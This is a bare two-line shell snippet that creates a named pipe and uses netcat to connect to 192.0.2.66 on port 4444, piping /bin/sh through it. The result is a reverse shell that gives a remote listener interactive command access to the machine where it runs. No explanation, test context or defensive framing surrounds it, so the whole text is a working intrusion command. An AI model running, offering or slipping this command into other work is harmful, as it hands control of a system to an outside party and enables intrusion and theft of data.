mkfifo /tmp/p
nc 192.0.2.66 4444 0</tmp/p | /bin/sh >/tmp/p 2>&1
